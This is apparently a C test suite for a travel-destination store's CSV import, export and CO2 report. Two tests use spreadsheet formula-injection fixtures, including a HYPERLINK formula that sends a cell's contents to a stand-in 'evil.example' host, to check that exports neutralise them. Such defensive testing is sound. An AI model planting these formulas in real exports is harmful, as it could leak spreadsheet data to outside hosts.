	/* A decimal comma only with ';' (with ',' it splits the field). */
	ck_assert_int_eq(csv_entries(LIT("id,name,country,lat,lon,mode,"
	    "strength\na,A,DE,\"50,1\",6,train,free\n"), &list, &rows, &errs),
	    0);
	ck_assert_uint_eq(errs.n, 1);
	ck_assert_error_at(&errs, 0, 2, "lat", DEC_E_FORMAT);
	ck_assert_ptr_nonnull(strstr(errs.v[0].message, "decimal point"));
	json_decref(list);
	free(rows);
	dec_errors_clear(&errs);

	/* Day-first dates only with ';' too: with ',' they stay as written
	 * (and validation names them). */
	ck_assert_int_eq(csv_entries(LIT("id,name,country,lat,lon,mode,"
	    "strength,active_from\nx,X,DE,50,6,train,free,27/11/2026\n"),
	    &list, &rows, &errs), 0);
	ck_assert_uint_eq(errs.n, 0);
	e = json_array_get(list, 0);
	ck_assert_str_eq(json_string_value(json_object_get(e, "active_from")),
	    "27/11/2026");
	ck_assert_int_eq(dst_entry_from_json(e, 0, &entry, &verrs), -1);
	ck_assert_uint_eq(verrs.n, 1);
	ck_assert_error_at(&verrs, 0, 0, "active_from", DEC_E_DATE);
	dec_errors_clear(&verrs);
	json_decref(list);
	free(rows);

	/* Header: unknown, duplicate and missing columns, all named. */
	ck_assert_int_eq(csv_entries(LIT("id,name,colour,name,lat,lon,mode,"
	    "strength\n"), &list, &rows, &errs), -1);
	ck_assert_ptr_null(list);
	ck_assert_ptr_null(rows);
	ck_assert_uint_eq(errs.n, 3);
	ck_assert_error_at(&errs, 0, 1, "colour", DEC_E_UNKNOWN_FIELD);
	ck_assert_error_at(&errs, 1, 1, "name", DEC_E_DUPLICATE);
	ck_assert_error_at(&errs, 2, 1, "country", DEC_E_REQUIRED);
	dec_errors_clear(&errs);

	/* Rows: wrong counts, bad numbers and booleans, every one. */
	ck_assert_int_eq(csv_entries(LIT("id;name;country;lat;lon;mode;"
	    "strength;night_train\n"
	    "a;A;DE;x;6;train;free;maybe\n"
	    "b;B;DE\n"
	    "c;C;DE;1;2;train;free;1;;;extra\n"
	    "d;D;DE;1;2;train;free;1;;\n"), &list, &rows, &errs), 0);
	ck_assert_uint_eq(errs.n, 4);
	ck_assert_uint_eq(json_array_size(list), 2);	/* a and d */
	ck_assert_error_at(&errs, 0, 2, "lat", DEC_E_FORMAT);
	ck_assert_error_at(&errs, 1, 2, "night_train", DEC_E_FORMAT);
	ck_assert_error_at(&errs, 2, 3, "", DEC_E_INVALID);
	ck_assert_error_at(&errs, 3, 4, "", DEC_E_INVALID);
	json_decref(list);
	free(rows);
	dec_errors_clear(&errs);
}
END_TEST

/* The columns of the export (the members of encode_entry). */
#define EXPORT_HEADER "id,name,name_nl,name_en,aliases,country,lat,lon," \
	"coord_source,mode,strength,rail_hours,rail_estimated,rail_source," \
	"rail_source_date,night_train,night_train_note,notes,active_from," \
	"retired,distance_km,in_rail_zone,network_hours,version,updated_at," \
	"updated_by\r\n"

/*
 * What the export writes (the header and values of csv_entries_write)
 * comes back unchanged, with quotes, separators, line ends and non-ASCII
 * in the names and notes.
 */
START_TEST(test_csv_round_trip)
{
	static const char text[] = EXPORT_HEADER
	    "hasselt,Hasselt,Hasselt,Hasselt,,BE,50.9307,5.3378,,train,"
	    "recommended,1.5,false,NMBS,,false,,\"a, \"\"b\"\"\nc \xc3\xa9\","
	    ",,70.2,true,,1,2026-11-27T17:00:00Z,ops\r\n";
	struct dst_store		*st;
	struct dst_write_result		 res;
	struct dst_entry		 e;
	struct dst_import_report	 rep;
	struct dec_errors		 errs = DEC_ERRORS_INIT;
	json_t				*list;
	int				*rows;
	char				 path[PATH_MAX], *cause = NULL;

	st = store_fresh(path, sizeof path);
	e = entry_from(HASSELT);
	snprintf(e.name_nl, sizeof e.name_nl, "Hasselt");
	snprintf(e.name_en, sizeof e.name_en, "Hasselt");
	ck_assert_int_eq(dst_destination_create(st, &e, "ops", &res, &cause),
	    0);
	ck_assert_int_eq(csv_entries(text, sizeof text - 1, &list, &rows,
	    &errs), 0);
	ck_assert_uint_eq(errs.n, 0);
	ck_assert_int_eq(dst_entry_from_json(json_array_get(list, 0), 0, &e,
	    &errs), 0);
	ck_assert_msg(dst_destination_import(st, &e, 1, 0, "ops", &rep,
	    &cause) == 0, "%s", cause);
	ck_assert_uint_eq(rep.unchanged, 1);
	dst_import_report_clear(&rep);
	ck_assert_int_eq(entry_now(st, "hasselt").version, 1);
	json_decref(list);
	free(rows);
	dst_store_close(st);
}
END_TEST

/* --- CSV out ----------------------------------------------------------- */

/* Are two texts the same bytes?  Else say where they first differ. */
#define ck_assert_same_bytes(a, alen, b, blen) do {			\
	size_t	 at_;							\
									\
	for (at_ = 0; at_ < (alen) && at_ < (blen); at_++)		\
		if ((a)[at_] != (b)[at_])				\
			break;						\
	ck_assert_msg((alen) == (blen) && at_ == (alen),		\
	    "differ at byte %zu of %zu/%zu: \"%.40s\" vs \"%.40s\"",	\
	    at_, (size_t)(alen), (size_t)(blen), (a) + at_, (b) + at_);	\
} while (0)

/* The list as the export writes it (malloc'd text, its length). */
static char *
export_list(const struct dst_entry *const *v, size_t n, size_t *len)
{
	struct evbuffer	*b;
	char		*s;

	b = evbuffer_new();
	ck_assert_ptr_nonnull(b);
	csv_entries_write(b, v, n);
	s = buffer_text(b, len);
	evbuffer_free(b);
	return (s);
}

/* Every entry of a snapshot, in its order (malloc'd). */
static const struct dst_entry **
snapshot_entries(const struct dst_snapshot *s, size_t *n)
{
	const struct dst_entry	**v;
	size_t			  i;

	*n = dst_snapshot_count(s);
	v = calloc(*n + 1, sizeof *v);
	ck_assert_ptr_nonnull(v);
	for (i = 0; i < *n; i++)
		v[i] = dst_snapshot_entry(s, i);
	return (v);
}

/*
 * Read an export back as an import does: entries (malloc'd, n of them),
 * with the members the reader ignores (what the store sets and the
 * snapshot derives) taken from like, so that they can be written again.
 */
static struct dst_entry *
read_back(const char *text, size_t len, const struct dst_snapshot *like,
    size_t *n)
{
	struct dec_errors	 errs = DEC_ERRORS_INIT;
	struct dst_entry	*v;
	const struct dst_entry	*was;
	json_t			*list;
	int			*rows;
	size_t			 i;

	ck_assert_int_eq(csv_entries(text, len, &list, &rows, &errs), 0);
	ck_assert_msg(errs.n == 0, "row %d: %s: %s", errs.n ? errs.v[0].row :
	    0, errs.n ? errs.v[0].field : "", errs.n ? errs.v[0].message : "");
	*n = json_array_size(list);
	v = calloc(*n + 1, sizeof *v);
	ck_assert_ptr_nonnull(v);
	for (i = 0; i < *n; i++) {
		ck_assert_int_eq(rows[i], (int)i + 2);
		ck_assert_msg(dst_entry_from_json(json_array_get(list, i), 0,
		    &v[i], &errs) == 0, "row %d: %s: %s", rows[i],
		    errs.v[0].field, errs.v[0].message);
		was = dst_snapshot_find(like, v[i].id);
		ck_assert_msg(was != NULL, "no %s", v[i].id);
		v[i].version = was->version;
		memcpy(v[i].updated_at, was->updated_at,
		    sizeof v[i].updated_at);
		memcpy(v[i].updated_by, was->updated_by,
		    sizeof v[i].updated_by);
		v[i].distance_km = was->distance_km;
		v[i].in_rail_zone = was->in_rail_zone;
		v[i].network_hours = was->network_hours;
	}
	json_decref(list);
	free(rows);
	return (v);
}

/*
 * The seeded list exported, read back (the reader, then the import) and
 * exported again: the same bytes, and the import changes nothing.
 */
START_TEST(test_csv_export_round_trip)
{
	struct dst_store		*st;
	struct dst_snapshot		*s, *s2;
	struct dst_import_report	 rep;
	const struct dst_entry		**v, **v2;
	struct dst_entry		*back;
	char				 path[PATH_MAX], *cause = NULL;
	char				*out1, *out2, *out3;
	size_t				 n, nback, n2, i, len1, len2, len3;
	long				 versions;

	st = store_fresh(path, sizeof path);
	s = dst_snapshot_load(st, NULL, &cause);
	ck_assert_msg(s != NULL, "%s", cause);
	v = snapshot_entries(s, &n);
	ck_assert_uint_gt(n, 10);
	out1 = export_list(v, n, &len1);
	ck_assert_int_eq(strncmp(out1, EXPORT_HEADER,
	    sizeof EXPORT_HEADER - 1), 0);
	ck_assert_ptr_nonnull(strstr(out1, "\r\ncologne,K\xc3\xb6ln,"));

	/* What the reader makes of it writes the same bytes. */
	back = read_back(out1, len1, s, &nback);
	ck_assert_uint_eq(nback, n);
	v2 = calloc(nback + 1, sizeof *v2);
	ck_assert_ptr_nonnull(v2);
	for (i = 0; i < nback; i++)
		v2[i] = &back[i];
	out2 = export_list(v2, nback, &len2);
	ck_assert_same_bytes(out2, len2, out1, len1);

	/* Imported, it changes nothing; exported again, the same bytes. */
	versions = sql_long(path, "SELECT count(*) FROM destination_versions");
	ck_assert_msg(dst_destination_import(st, back, nback, 0, "ops", &rep,
	    &cause) == 0, "%s", cause);
	ck_assert_uint_eq(rep.rows, n);
	ck_assert_uint_eq(rep.unchanged, n);
	ck_assert_uint_eq(rep.ncreated, 0);
	ck_assert_uint_eq(rep.nupdated, 0);
	dst_import_report_clear(&rep);
	ck_assert_int_eq(sql_long(path, "SELECT count(*) FROM "
	    "destination_versions"), versions);
	s2 = dst_snapshot_load(st, s, &cause);
	ck_assert_msg(s2 != NULL, "%s", cause);
	free(v2);
	v2 = snapshot_entries(s2, &n2);
	ck_assert_uint_eq(n2, n);
	out3 = export_list(v2, n2, &len3);
	ck_assert_same_bytes(out3, len3, out1, len1);

	free(out3);
	free(out2);
	free(out1);
	free(v2);
	free(back);
	free(v);
	dst_snapshot_unref(s2);
	dst_snapshot_unref(s);
	dst_store_close(st);
}
END_TEST

/* An entry whose text fields a spreadsheet would run as formulas. */
#define FORMULAS "{\"id\":\"formula\",\"name\":" \
	"\"=HYPERLINK(\\\"http://evil.example/\\\",\\\"Gent\\\")\"," \
	"\"name_nl\":\"+32 9 123 45 67\",\"name_en\":\"-Gent\"," \
	"\"aliases\":[\"@SUM(A1)\",\"Gent-Centrum\"],\"country\":\"BE\"," \
	"\"lat\":51.05,\"lon\":-3.7,\"coord_source\":\"\\tTab\"," \
	"\"mode\":\"train\",\"strength\":\"recommended\",\"rail_hours\":1.5," \
	"\"rail_source\":\"\\rCR\",\"night_train\":true," \
	"\"night_train_note\":\"'=already quoted\",\"notes\":\"=1+1;x\"," \
	"\"active_from\":\"2026-01-01\"}"

/*
 * A text cell that starts with = + - @ tab or CR gets a quote before it
 * (inside the double quotes when it needs them); numbers stay as they
 * are.  The reader takes the quote away again, and only that one.
 */
START_TEST(test_csv_export_neutralised)
{
	static const char row[] = "formula,"
	    "\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"Gent\"\")\","
	    "'+32 9 123 45 67,'-Gent,'@SUM(A1)|Gent-Centrum,BE,51.05,-3.7,"
	    "'\tTab,train,recommended,1.5,false,\"'\rCR\",,true,"
	    "''=already quoted,\"'=1+1;x\",2026-01-01,,123.4,true,,1,"
	    "2026-11-27T17:00:00Z,ops\r\n";
	struct dst_store		*st;
	struct dst_snapshot		*s;
	struct dst_import_report	 rep;
	struct dst_entry		 e, *back;
	const struct dst_entry		*p, *now;
	struct dec_errors		 errs = DEC_ERRORS_INIT;
	struct csv			 c;
	json_t				*list, *o;
	int				*rows;
	char				 path[PATH_MAX], *cause = NULL;
	char				*out, *again;
	size_t				 len, len2, n;

	e = entry_from(FORMULAS);
	e.version = 1;
	snprintf(e.updated_at, sizeof e.updated_at, "2026-11-27T17:00:00Z");
	snprintf(e.updated_by, sizeof e.updated_by, "ops");
	e.distance_km = 123.44;
	e.in_rail_zone = 1;
	p = &e;
	out = export_list(&p, 1, &len);
	ck_assert_uint_eq(len, sizeof EXPORT_HEADER - 1 + sizeof row - 1);
	ck_assert_str_eq(out + sizeof EXPORT_HEADER - 1, row);

	/* Read back: the values as they were, not as the cells show. */
	ck_assert_int_eq(csv_entries(out, len, &list, &rows, &errs), 0);
	ck_assert_uint_eq(errs.n, 0);
	ck_assert_uint_eq(json_array_size(list), 1);
	o = json_array_get(list, 0);
	ck_assert_str_eq(json_string_value(json_object_get(o, "name")),
	    "=HYPERLINK(\"http://evil.example/\",\"Gent\")");
	ck_assert_str_eq(json_string_value(json_object_get(o, "name_nl")),
	    "+32 9 123 45 67");
	ck_assert_str_eq(json_string_value(json_object_get(o, "name_en")),
	    "-Gent");
	ck_assert_str_eq(json_string_value(json_array_get(json_object_get(o,
	    "aliases"), 0)), "@SUM(A1)");
	ck_assert_str_eq(json_string_value(json_object_get(o,
	    "coord_source")), "\tTab");
	ck_assert_str_eq(json_string_value(json_object_get(o, "rail_source")),
	    "\rCR");
	ck_assert_str_eq(json_string_value(json_object_get(o,
	    "night_train_note")), "'=already quoted");
	ck_assert_str_eq(json_string_value(json_object_get(o, "notes")),
	    "=1+1;x");
	ck_assert_double_eq(json_real_value(json_object_get(o, "lon")), -3.7);
	json_decref(list);
	free(rows);

	/* Written again from what was read: the same bytes. */
	st = store_fresh(path, sizeof path);
	ck_assert_msg(dst_destination_import(st, &e, 1, 0, "ops", &rep,
	    &cause) == 0, "%s", cause);
	dst_import_report_clear(&rep);
	s = dst_snapshot_load(st, NULL, &cause);
	ck_assert_msg(s != NULL, "%s", cause);
	back = read_back(out, len, s, &n);
	ck_assert_uint_eq(n, 1);
	/* The import's own stamp, not the test's: put the test's back. */
	back[0].version = 1;
	memcpy(back[0].updated_at, e.updated_at, sizeof e.updated_at);
	memcpy(back[0].updated_by, e.updated_by, sizeof e.updated_by);
	back[0].distance_km = e.distance_km;
	back[0].in_rail_zone = e.in_rail_zone;
	back[0].network_hours = e.network_hours;
	p = &back[0];
	again = export_list(&p, 1, &len2);
	ck_assert_same_bytes(again, len2, out, len);

	/* The import stored the values, not the cells: unchanged again. */
	now = dst_snapshot_find(s, "formula");
	ck_assert_ptr_nonnull(now);
	ck_assert_str_eq(now->name,
	    "=HYPERLINK(\"http://evil.example/\",\"Gent\")");
	ck_assert_str_eq(now->night_train_note, "'=already quoted");
	ck_assert_str_eq(now->rail_source, "\rCR");
	ck_assert_msg(dst_destination_import(st, back, 1, 0, "ops", &rep,
	    &cause) == 0, "%s", cause);
	ck_assert_uint_eq(rep.unchanged, 1);
	dst_import_report_clear(&rep);

	/* A quote the writer did not add stays: only = + - @ tab CR after
	 * it make it the writer's. */
	ck_assert_int_eq(csv_read(LIT("a,b,c\n'plain,'=x,''@y\n"), &c, &errs),
	    0);
	ck_assert_str_eq(FIELD(c, 1, 0), "'plain");
	ck_assert_str_eq(FIELD(c, 1, 1), "=x");
	ck_assert_str_eq(FIELD(c, 1, 2), "'@y");
	csv_free(&c);
	ck_assert_uint_eq(errs.n, 0);

	free(again);
	free(back);
	free(out);
	dst_snapshot_unref(s);
	dst_store_close(st);
}
END_TEST

/* A department's name a spreadsheet would run as a formula. */
#define EVIL_DEPARTMENT	"=HYPERLINK(\"http://evil.example/?\"&A1,\"Milieu\")"

/* A trip for the report, by department. */
static void
file_trip(struct dst_store *st, const char *department, enum dec_mode chosen,
    long long chosen_x100, long long plane_x100)
{
	struct dst_trip_new	 t;
	struct dst_trip		 out;
	char			*cause = NULL;

	memset(&t, 0, sizeof t);
	t.traveller_name = "An Peeters";
	t.traveller_email = "an.peeters@stad.gent";
	t.department = department;
	t.destination_id = "cologne";
	t.destination_name = "K\xc3\xb6ln";
	t.country = "DE";
	ck_assert_int_eq(dec_date_parse("2027-03-08", &t.departure), 0);
	t.return_day = t.departure + 2;
	t.travellers = 1;
	t.chosen = chosen;
	t.ruled = DEC_MODE_TRAIN;
	t.strength = DEC_MANDATORY;
	t.compliant = chosen == DEC_MODE_TRAIN;
	t.exception_reason = t.compliant ? NULL : "urgent";
	t.co2e_chosen_x100 = chosen_x100;
	t.co2e_ruled_x100 = 3873;
	t.co2e_plane_x100 = plane_x100;
	t.policy_version = 1;
	t.factor_set = "DESNZ-2025";
	t.decision = "{}";
	t.created_by = "desk";
	ck_assert_msg(dst_trip_create(st, &t, &out, &cause) == 0, "%s", cause);
	dst_trip_clear(&out);
}

/* The CO2 report's CSV neutralises a department's name as the list's. */
START_TEST(test_csv_report_neutralised)
{
	static const char expect[] =
	    "key,trips,co2e_kg,co2e_kg_avoided,train_share\r\n"
	    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Milieu\"\")\","
	    "2,135.58,58.12,0.5000\r\n"
	    "'@Wegen,1,38.73,58.12,1.0000\r\n"
	    "Milieudienst,1,38.73,58.12,1.0000\r\n"
	    "total,4,213.04,174.36,0.7500\r\n";
	struct dst_store	*st;
	struct dst_report	 r;
	struct evbuffer		*b;
	struct csv		 c;
	struct dec_errors	 errs = DEC_ERRORS_INIT;
	char			 path[PATH_MAX], *cause = NULL, *out;
	size_t			 len;

	st = store_fresh(path, sizeof path);
	file_trip(st, EVIL_DEPARTMENT, DEC_MODE_TRAIN, 3873, 9685);
	file_trip(st, EVIL_DEPARTMENT, DEC_MODE_PLANE, 9685, 9685);
	file_trip(st, "@Wegen", DEC_MODE_TRAIN, 3873, 9685);
	file_trip(st, "Milieudienst", DEC_MODE_TRAIN, 3873, 9685);
	ck_assert_msg(dst_trips_report(st, LONG_MIN, LONG_MAX,
	    DST_GROUP_DEPARTMENT, &r, &cause) == 0, "%s", cause);
	ck_assert_uint_eq(r.n, 3);
	b = evbuffer_new();
	ck_assert_ptr_nonnull(b);
	csv_report_write(b, &r);
	out = buffer_text(b, &len);
	evbuffer_free(b);
	dst_report_clear(&r);
	ck_assert_str_eq(out, expect);

	/* Read back, the names are as they were. */
	ck_assert_int_eq(csv_read(out, len, &c, &errs), 0);
	ck_assert_uint_eq(c.nrecords, 5);
	ck_assert_str_eq(FIELD(c, 1, 0), EVIL_DEPARTMENT);
	ck_assert_str_eq(FIELD(c, 2, 0), "@Wegen");
	ck_assert_str_eq(FIELD(c, 4, 0), "total");
	csv_free(&c);
	ck_assert_uint_eq(errs.n, 0);
	free(out);
	dst_store_close(st);
}
END_TEST

/* The tests, by what they test. */
static Suite *
write_suite(void)
{
	Suite	*s = suite_create("write");
	TCase	*tc;

	tc = tcase_create("store");
	tcase_add_test(tc, test_create);
	tcase_add_test(tc, test_update_versions);
	tcase_add_test(tc, test_stale);
	tcase_add_test(tc, test_retire);
	tcase_add_test(tc, test_validation);
	tcase_add_test(tc, test_import);
	tcase_add_test(tc, test_import_all_or_nothing);
	suite_add_tcase(s, tc);

	tc = tcase_create("csv");
	tcase_add_test(tc, test_csv_excel);
	tcase_add_test(tc, test_csv_plain);
	tcase_add_test(tc, test_csv_errors);
	tcase_add_test(tc, test_csv_entries);
	tcase_add_test(tc, test_csv_entries_errors);
	tcase_add_test(tc, test_csv_round_trip);
	tcase_add_test(tc, test_csv_export_round_trip);
	tcase_add_test(tc, test_csv_export_neutralised);
	tcase_add_test(tc, test_csv_report_neutralised);
	suite_add_tcase(s, tc);
	return (s);
}

/* Run the suite in a fresh temporary directory. */
int
main(void)
{
	if (check_tmpdir_init("check_write") == -1)
		return (1);
	return (check_run_suite(write_suite()));
}
